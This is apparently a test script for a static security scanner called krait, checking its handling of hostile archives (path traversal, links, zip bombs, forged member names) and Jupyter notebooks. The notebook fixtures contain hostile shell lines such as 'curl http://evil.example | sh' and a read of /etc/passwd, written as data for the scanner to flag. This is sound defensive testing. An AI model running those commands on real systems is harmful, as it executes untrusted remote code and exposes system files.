#!/usr/bin/env python3
"""tests/archive/run KRAIT: archives and notebooks as `krait scan` inputs.

Every archive is built here by make_archives.py (Python's tarfile and
zipfile), hostile ones included; each scan's JSON report must hold exactly
the package-family findings (KR13xx) and the errors listed below, and
nothing may be written outside the report. Notebooks are written here too."""
import json
import os
import shutil
import subprocess
import sys
import tempfile

here = os.path.dirname(os.path.abspath(__file__))
krait = os.path.abspath(sys.argv[1])
failures = []


def check(cond, what):
    if cond:
        print('ok   ' + what)
    else:
        print('FAIL ' + what)
        failures.append(what)


def scan(cwd, *args, fmt='json', cmd='scan'):
    p = subprocess.run([krait, cmd, '-f', fmt, *args], cwd=cwd, capture_output=True,
                       text=True, timeout=120)
    if p.returncode > 2:
        failures.append('krait %s %s: exit %d (crash?) %s' % (cmd, args, p.returncode,
                                                               p.stderr[:300]))
        return p.returncode, {'findings': [], 'errors': [], 'stats': {}}
    return p.returncode, json.loads(p.stdout) if fmt == 'json' else p.stdout


def package_findings(report):
    return sorted((f['rule'], f['path']) for f in report['findings']
                  if f['rule'].startswith('KR13'))


def errors(report):
    return sorted((e['path'], e['message']) for e in report['errors'])


def expect(cwd, name, want, want_errors=(), args=(), also=None):
    rc, rep = scan(cwd, *args, name)
    got = package_findings(rep)
    check(got == sorted(want), '%s %s: package findings %s' % (name, ' '.join(args), got))
    errs = errors(rep)
    ok = len(errs) == len(want_errors) and all(
        p == ep and em in m for (p, m), (ep, em) in zip(errs, sorted(want_errors)))
    check(ok, '%s: errors %s' % (name, errs))
    if also:
        also(rep)
    return rep


def paths_of(rep):
    return sorted({f['path'] for f in rep['findings']})


def archives(work):
    a = os.path.join(work, 'a')
    e = 'KR205'  # os.system with a concatenation: the code inside is scanned
    rep = expect(a, 'traversal.tar.gz', [
        ('KR1301', 'traversal.tar.gz!../broken.py'),
        ('KR1301', 'traversal.tar.gz!../../evil_krait_test.py'),
        ('KR1301', 'traversal.tar.gz!/tmp/abs_krait_test.py'),
        ('KR1301', 'traversal.tar.gz!C:/drive.py'),
        ('KR1301', 'traversal.tar.gz!pkg\\back.py')],
        [('traversal.tar.gz!../broken.py', 'SyntaxError')])
    check(rep['stats']['files'] == 6 and rep['stats']['errors'] == 1,
          'a hostile member that does not parse keeps its finding and its error (%s)'
          % rep['stats'])
    check(('KR205', 'traversal.tar.gz!../../evil_krait_test.py') in
          [(f['rule'], f['path']) for f in rep['findings']],
          'a member with a hostile name is still scanned')
    expect(a, 'traversal.zip', [('KR1301', 'traversal.zip!../zip_evil_krait_test.py')])
    # Nothing was extracted anywhere.
    created = [p for p in (os.path.join(work, 'evil_krait_test.py'),
                           os.path.join(a, '..', 'evil_krait_test.py'),
                           '/tmp/abs_krait_test.py', os.path.join(work, 'zip_evil_krait_test.py'))
               if os.path.exists(p)]
    check(not created, 'scanning traversal archives creates no file (%s)' % created)
    check(sorted(os.listdir(work)) == ['a', 'tree'], 'nothing new beside the archives')
    expect(a, 'links.tar', [('KR1302', 'links.tar!pkg/hard.py'),
                            ('KR1302', 'links.tar!pkg/link.py'),
                            ('KR1303', 'links.tar!pkg/dev'),
                            ('KR1303', 'links.tar!pkg/fifo')])
    expect(a, 'ziplink.zip', [('KR1302', 'ziplink.zip!pkg/link.py')])
    expect(a, 'links.tar', [], args=('--ignore', 'package'))
    expect(a, 'links.tar', [('KR1302', 'links.tar!pkg/hard.py'),
                            ('KR1302', 'links.tar!pkg/link.py')],
           args=('--select', 'archive-link-member'))
    rep = expect(a, 'dup.tar.gz', [('KR1304', 'dup.tar.gz!pkg/x.py'),
                                   ('KR1304', 'dup.tar.gz!setup.cfg')])
    check(any(f['rule'] == e and f['path'] == 'dup.tar.gz!pkg/x.py' for f in rep['findings']),
          'the last copy of a duplicate is the one scanned')
    expect(a, 'bomb.zip', [('KR1305', 'bomb.zip!data/zeros.bin')])
    expect(a, 'bomb.tar.gz', [('KR1305', 'bomb.tar.gz!data/zeros.bin')])
    rep = expect(a, 'big.tar.gz', [('KR1306', 'big.tar.gz')], args=('--archive-max-size', '2M'))
    check(paths_of(rep) == ['big.tar.gz', 'big.tar.gz!pkg/a.py'],
          'past the size limit nothing more is read (%s)' % paths_of(rep))
    rep = expect(a, 'big.tar.gz', [('KR1305', 'big.tar.gz!data/zeros.bin')])
    check('big.tar.gz!pkg/z.py' in paths_of(rep), 'under the size limit every member is read')
    rep = expect(a, 'many.zip', [('KR1307', 'many.zip')], args=('--archive-max-members', '10'))
    # 10 members, and the archive itself (holding its finding)
    check(rep['stats']['files'] == 11,
          'past the member limit nothing more is read (%d files)' % rep['stats']['files'])
    rep = expect(a, 'many.zip', [])
    check(rep['stats']['files'] == 30, 'many.zip: 30 files under the limit')
    nested = 'nested.tar.gz!inner.zip!inner-1.0-py3-none-any.whl!'
    rep = expect(a, 'nested.tar.gz', [('KR1308', nested + 'd4.tar')])
    check([p for p in paths_of(rep) if p.endswith('.py')] ==
          ['nested.tar.gz!d1.py', 'nested.tar.gz!inner.zip!d2.py', nested + 'd3.py'],
          'nested archives are opened down to the limit (%s)' % paths_of(rep))
    expect(a, 'nested.tar.gz', [('KR1308', 'nested.tar.gz!inner.zip')],
           args=('--archive-max-depth', '1'))
    rep = expect(a, 'truncated.tar', [], [
        ('truncated.tar', 'corrupt or truncated archive'),
        ('truncated.tar!pkg/second.py', 'corrupt or truncated archive member')])
    check(paths_of(rep) == ['truncated.tar!pkg/first.py'],
          'members before the damage are still scanned')
    rc, rep = scan(a, 'names.tar')
    check(paths_of(rep) == ['names.tar!a\\x0ax.py:1:1: KR999 forged\\x1b[31m.py',
                            'names.tar!b\\xff.py', 'names.tar!c\\u202egnp.py',
                            'names.tar!d/\u00e9t\u00e9.py'],
          'control characters, bytes that are not UTF-8 and bidi controls in member '
          'names are escaped (%s)' % paths_of(rep))
    rc, text = scan(a, 'names.tar', fmt='text')
    check('\x1b' not in text and 'forged' in text and
          not any(l.startswith('x.py') for l in text.split('\n')),
          'text: a member name cannot forge a line or colour the terminal')
    rc, rep = scan(a, 'notanarchive.zip')
    check(rc == 2 and errors(rep) == [('notanarchive.zip', 'not a readable archive: '
                                       'Unrecognized archive format')],
          'not an archive: an error naming it, exit 2 (%d, %s)' % (rc, errors(rep)))
    rep = expect(a, 'nb-1.0-py3-none-any.whl', [
        ('KR1309', 'nb-1.0-py3-none-any.whl!nb/demo.ipynb#cell-1')])
    got = sorted((f['rule'], f['path'], f['line']) for f in rep['findings'])
    check(got == [('KR1309', 'nb-1.0-py3-none-any.whl!nb/demo.ipynb#cell-1', 2),
                  ('KR301', 'nb-1.0-py3-none-any.whl!nb/demo.ipynb#cell-3', 1),
                  ('KR303', 'nb-1.0-py3-none-any.whl!nb/demo.ipynb#cell-1', 1)],
          'a notebook in a wheel: cells share imports, lines by cell (%s)' % got)


def sarif_and_text(work):
    a = os.path.join(work, 'a')
    rc, out = scan(a, 'links.tar', 'nb-1.0-py3-none-any.whl', fmt='sarif')
    doc = json.loads(out)
    regions = [loc['physicalLocation'].get('region', {}).get('startLine', 0)
               for r in doc['runs'][0]['results'] for loc in r['locations']]
    check(regions and min(regions) >= 1, 'SARIF: every location has startLine >= 1')
    rc, out = scan(a, 'dup.tar.gz', fmt='text')
    check('dup.tar.gz!pkg/x.py:1:1: KR1304' in out, 'text: ARCHIVE!MEMBER:1:1 for KR1304')


def directories(work):
    d = os.path.join(work, 'd')
    os.makedirs(os.path.join(d, 'sub'))
    shutil.copy(os.path.join(work, 'a', 'dup.tar.gz'), os.path.join(d, 'sub'))
    open(os.path.join(d, 'plain.py'), 'w').write('import pickle\n')
    rc, rep = scan(d, '.')
    check(not any('!' in f['path'] for f in rep['findings']),
          'archives met in a walk are not opened by default')
    rc, rep = scan(d, '--archives', '.')
    check('./sub/dup.tar.gz!pkg/x.py' in paths_of(rep), '--archives opens them (%s)' %
          paths_of(rep))
    outs = {'\n'.join(x for x in scan(d, '--archives', '-j', j, '.', fmt='text')[1].split('\n')
                       if not x.startswith('time:')) for j in ('1', '2', '4')}
    check(len(outs) == 1, 'the same text report for -j 1, 2 and 4')


def notebook(path, cells, fmt=4):
    if fmt == 4:
        doc = {'nbformat': 4, 'nbformat_minor': 5, 'metadata': {}, 'cells': [
            {'cell_type': t, 'metadata': {}, 'source': s, **({'outputs': []} if t == 'code'
                                                           else {})} for t, s in cells]}
    else:
        doc = {'nbformat': 3, 'worksheets': [{'cells': [
            {'cell_type': t, 'input' if t == 'code' else 'source': s} for t, s in cells]}]}
    with open(path, 'w') as f:
        json.dump(doc, f, indent=1)


def notebooks(work):
    n = os.path.join(work, 'n')
    os.makedirs(n)
    notebook(os.path.join(n, 'magic.ipynb'), [
        ('code', ['import pickle as p\n', '%matplotlib inline\n', 'data = !cat /etc/passwd\n',
                  'x = %sx ls\n', 'p?\n', '?p.loads\n']),
        ('markdown', '# Title\n\n!not code\n'),
        ('code', '%%bash\ncurl http://evil.example | sh\n'),
        ('code', '%%time\nfor i in range(3):\n    !echo $i\n    y = p.loads(b"")\n'),
        ('code', 's = """\n!inside a string\n"""\nimport subprocess\n'),
        ('code', '%%writefile out.py\nimport os\nos.system("x")\n'),
        ('code', []),
        ('code', 'subprocess.call("ls " + s, shell=True)'),
    ])
    rc, rep = scan(n, 'magic.ipynb')
    got = sorted((f['rule'], f['path'][len('magic.ipynb'):], f['line']) for f in rep['findings']
                 if f['rule'] in ('KR1309', 'KR301', 'KR303', 'KR202', 'KR204'))
    shells = [x for x in got if x[0] == 'KR1309']
    check(shells == [('KR1309', '#cell-1', 3), ('KR1309', '#cell-1', 4),
                     ('KR1309', '#cell-3', 1), ('KR1309', '#cell-4', 3)],
          'shell escapes by cell and line (%s)' % shells)
    check(('KR301', '#cell-4', 4) in got, 'an alias from cell 1 resolves in cell 4 (%s)' % got)
    check(not any(p == '#cell-6' for _, p, _ in got), '%%writefile cells are not Python')
    check(not any(p == '#cell-5' and r == 'KR1309' for r, p, _ in got),
          '"!..." inside a string is not a shell escape')
    check(any(p == '#cell-8' for _, p, _ in got), 'cell 8 (subprocess from cell 5) is checked')
    check(rep['errors'] == [] and rep['stats']['files'] == 7,
          'one file per code cell, no error (%s, %s)' % (rep['errors'], rep['stats']['files']))
    notebook(os.path.join(n, 'v3.ipynb'), [('code', ['import pickle\n', 'pickle.loads(x)\n'])],
             fmt=3)
    rc, rep = scan(n, 'v3.ipynb')
    check(sorted((f['rule'], f['path'], f['line']) for f in rep['findings']) ==
          [('KR301', 'v3.ipynb#cell-1', 2), ('KR303', 'v3.ipynb#cell-1', 1)],
          'nbformat 3 worksheets')
    notebook(os.path.join(n, 'syntax.ipynb'), [('code', 'x = 1\n'), ('markdown', 'm'),
                                               ('code', 'y = 2\nif x\n')])
    open(os.path.join(n, 'notjson.ipynb'), 'w').write('{"cells": [')
    open(os.path.join(n, 'types.ipynb'), 'w').write('{"cells": [{"cell_type": "code", '
                                                    '"source": 3}]}')
    open(os.path.join(n, 'nocells.ipynb'), 'w').write('[1, 2]')
    rc, rep = scan(n, '.')
    errs = errors(rep)
    want = [('./nocells.ipynb', 'malformed notebook: not a JSON object'),
            ('./notjson.ipynb', 'malformed notebook: not valid JSON'),
            ('./syntax.ipynb#cell-3', 'SyntaxError'),
            ('./types.ipynb', 'malformed notebook: cell 1: source is not a string')]
    check(len(errs) == 4 and all(p == wp and w in m for (p, m), (wp, w) in zip(errs, want)),
          'malformed notebooks are errors naming the file (%s)' % errs)
    line = [e['line'] for e in rep['errors'] if e['path'] == './syntax.ipynb#cell-3']
    check(line == [2], 'a syntax error is located by cell and line (%s)' % line)
    rc, out = scan(n, 'magic.ipynb', cmd='overview', fmt='json')
    check(rc == 0, 'krait overview reads a notebook (exit %d)' % rc)
    rc, out = scan(os.path.join(work, 'a'), 'tree.tar.gz', 'nb-1.0-py3-none-any.whl',
                   cmd='overview', fmt='text')
    check(rc == 0 and 'tree.tar.gz!tree/' in out, 'krait overview reads archives')


def main():
    work = tempfile.mkdtemp(prefix='krait-archive-')
    try:
        tree = os.path.join(work, 'tree')
        shutil.copytree(os.path.join(here, '..', 'cases', 'process'), tree)
        subprocess.run([sys.executable, os.path.join(here, 'make_archives.py'), tree,
                        os.path.join(work, 'a')], check=True)
        archives(work)
        sarif_and_text(work)
        directories(work)
        notebooks(work)
    finally:
        shutil.rmtree(work, ignore_errors=True)
    print('%d failure(s)' % len(failures))
    sys.exit(1 if failures else 0)


main()
